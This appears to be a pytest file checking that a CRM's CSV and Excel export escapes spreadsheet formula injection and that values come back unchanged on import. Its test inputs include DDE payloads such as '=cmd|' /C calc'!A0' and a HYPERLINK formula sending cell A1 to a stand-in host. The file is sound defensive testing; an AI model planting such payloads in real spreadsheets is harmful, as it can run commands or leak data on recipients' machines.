"""Tables that others open: no cell runs, and what went out comes back as it was (OWASP ASVS 1.2.10)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from crm.exporting.csv import FORMULA_STARTS, csv_lines, escape_formula
from crm.foreign.tables import write_workbook
from crm.importing.errors import RowFault
from crm.importing.reading import open_table
from crm.importing.rejects import RejectedRows
from crm.importing.tables import ReadOptions
from crm.importing.values import plain_text

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example/?"&A1,"Invoice")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(A1)",  # noqa: RUF001
    "+49 6151 1234",
    "'=1+1",
    "''@x",
    "#N/A",
    "#REF!",
]
WORDS = st.text(alphabet=st.sampled_from("=+-@\t\r'＝ab1.,;\"\n é漢"), max_size=12)  # noqa: RUF001


def workbook(rows) -> io.BytesIO:
    made = io.BytesIO()
    write_workbook(made, rows)
    made.seek(0)
    return made


def cells_read(tmp_path: Path, name: str, content: bytes) -> list[list[str]]:
    """The cells as the import reads them."""
    path = tmp_path / name
    path.write_bytes(content)
    return [list(row) for chunk in open_table(path, ReadOptions(header=True)).chunks() for row in chunk.rows]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_begins_as_no_formula_does(text):
    (row,) = csv.reader(io.StringIO("".join(csv_lines([[text]], for_spreadsheet=False)), newline=""))
    assert not row[0].startswith(FORMULA_STARTS)
    assert plain_text(row[0]) == text


@given(WORDS)
def test_csv_text_comes_back_as_it_was(text):
    (row, *_) = csv.reader(io.StringIO("".join(csv_lines([[text, "x"]], for_spreadsheet=False)), newline=""))
    assert plain_text(row[0]) == text


def test_workbook_holds_no_formula_and_no_error(tmp_path):
    made = workbook([["=name", "text"], *(["x", text] for text in FORMULAS)])
    with zipfile.ZipFile(made) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f" not in sheet
    assert b't="e"' not in sheet
    cells = [row[1] for row in load_workbook(made).active.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(FORMULAS)
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in FORMULAS]
    assert all(cell.quotePrefix for cell in cells)


def test_workbook_comes_back_through_the_import(tmp_path):
    rows = [
        ["Name", "Day", "Time", "Amount", "Number"],
        ["=1+1", dt.date(2026, 3, 1), dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.UTC), Decimal("-12.50"), 7],
        ["+49 6151 1", None, None, Decimal("0.1"), 12_345_678_901_234_567_890],
        ["Größe 漢 \x0b", None, None, None, float("nan")],
        ["'quoted", None, None, Decimal(-3), None],
    ]
    assert cells_read(tmp_path, "a.xlsx", workbook(rows).getvalue()) == [
        ["=1+1", "2026-03-01", "2026-03-01 09:30:00", "-12.5", "7"],
        ["+49 6151 1", "", "", "0.1", "12345678901234567890"],
        ["Größe 漢 �", "", "", "", ""],
        ["'quoted", "", "", "-3", ""],
    ]


def test_text_longer_than_a_cell_is_cut():
    (row,) = load_workbook(workbook([["x" * 40_000]])).active.iter_rows(values_only=True)
    assert len(str(row[0])) == 32_767


def test_rejected_rows_run_nothing_and_can_be_brought_again(tmp_path):
    path = tmp_path / "rejected.csv"
    cells = ("=1+1", "-1.234,56 €", "'=1+1")
    with RejectedRows(path, ["=cmd|' /C calc'!A0", "amount", "note"]) as rejected:
        rejected.write([RowFault(1, 2, "amount", "=HYPERLINK(1) is no amount", cells)])
    header, row = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
    assert not [cell for cell in (*header, *row) if cell.startswith(FORMULA_STARTS) and cell != "-1.234,56 €"]
    assert [plain_text(cell) for cell in row[:3]] == ["=1+1", "-1.234,56 €", "=1+1"]


def test_escaping_is_undone_once_only():
    assert plain_text(plain_text(escape_formula(escape_formula("=1")))) == "=1"
    assert plain_text(escape_formula("''=1")) == "''=1"
